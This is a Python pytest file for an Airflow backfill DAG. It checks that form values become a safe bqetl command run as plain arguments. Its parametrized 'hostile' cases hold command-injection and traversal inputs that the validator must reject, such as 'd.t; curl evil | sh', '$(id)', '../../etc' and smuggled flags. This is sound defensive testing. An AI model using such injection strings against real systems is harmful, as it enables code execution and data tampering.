"""The form of ``bqetl_backfill``, and the command it makes."""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

import pytest
from airflow.sdk.exceptions import AirflowFailException, ParamValidationError

from tests.dags.forms import filled_in

if TYPE_CHECKING:
    from airflow.sdk import DAG

GIVEN = {"table_name": "orchard_derived.days_v1", "start_date": "2026-06-01", "end_date": "2026-06-03"}


def command(dags: dict[str, DAG], **given: Any) -> list[str]:
    task: Any = dags["bqetl_backfill"].get_task("generate_backfill_command")
    words: list[str] = task.python_callable(filled_in(dags["bqetl_backfill"], **(GIVEN | given)))
    return words


def test_a_dry_run_with_checks_unless_told_otherwise(dags: dict[str, DAG]) -> None:
    assert command(dags) == [
        *("bqetl", "query", "backfill", "orchard_derived.days_v1", "--sql_dir", "sql"),
        *("--project_id", "moz-fx-data-shared-prod", "--start_date", "2026-06-01", "--end_date", "2026-06-03"),
        *("--max_rows", "10", "--parallelism", "8", "--dry_run", "--checks"),
        "--billing-project=moz-fx-data-backfill-slots",
    ]


def test_every_field_has_its_flag(dags: dict[str, DAG]) -> None:
    words = command(
        dags,
        project_id="mozfun",
        dry_run=False,
        exclude=["2026-06-01", "2026-06-02"],
        max_rows=0,
        parallelism=50,
        destination_table="some-project.orchard_derived.days_v2$20260601",
        run_checks=False,
        scheduling_overrides={"parameters": ["a:STRING:b'; id"]},
        override_retention_range_limit=True,
        billing_project=None,
    )
    assert words[6:8] == ["--project_id", "mozfun"]
    assert words[12:] == [
        *("--max_rows", "0", "--parallelism", "50"),
        "--destination_table=some-project.orchard_derived.days_v2$20260601",
        *("--exclude", "2026-06-01", "--exclude", "2026-06-02"),
        *("--scheduling_overrides", '{"parameters": ["a:STRING:b\'; id"]}'),
        *("--no-checks", "--override-retention-range-limit"),
    ]


def test_reversed_dates_are_refused(dags: dict[str, DAG]) -> None:
    with pytest.raises(AirflowFailException, match=r"start_date=2026-06-04 is after end_date=2026-06-03. Swap them"):
        command(dags, start_date="2026-06-04")


@pytest.mark.parametrize(
    "hostile",
    [
        {"table_name": "d.t; curl evil | sh"},
        {"table_name": "--help"},
        {"table_name": "{dataset}.{table}"},
        {"sql_dir": "../../etc"},
        {"sql_dir": "--help"},
        {"project_id": "some-other-project"},
        {"start_date": "2026-06-31"},
        {"start_date": "$(id)"},
        {"exclude": ["2026-06-01", "--no-checks"]},
        {"max_rows": 501},
        {"max_rows": -1},
        {"parallelism": 0},
        {"parallelism": 51},
        {"parallelism": "8 --no-checks"},
        {"destination_table": "a b"},
        {"scheduling_overrides": {"query": "DROP TABLE t"}},
        {"scheduling_overrides": {"parameters": "x"}},
        {"billing_project": "p; id"},
        {"dry_run": "false"},
    ],
)
def test_a_hostile_value_starts_no_run(dags: dict[str, DAG], hostile: dict[str, Any]) -> None:
    with pytest.raises(ParamValidationError):
        filled_in(dags["bqetl_backfill"], **(GIVEN | hostile))


def test_the_pod_runs_the_command_as_words(dags: dict[str, DAG]) -> None:
    pod: Any = dags["bqetl_backfill"].get_task("bqetl_backfill")
    assert pod.arguments.operator.task_id == "generate_backfill_command"
    assert not pod.cmds, "no shell reads the values"
    assert pod.retries == 0
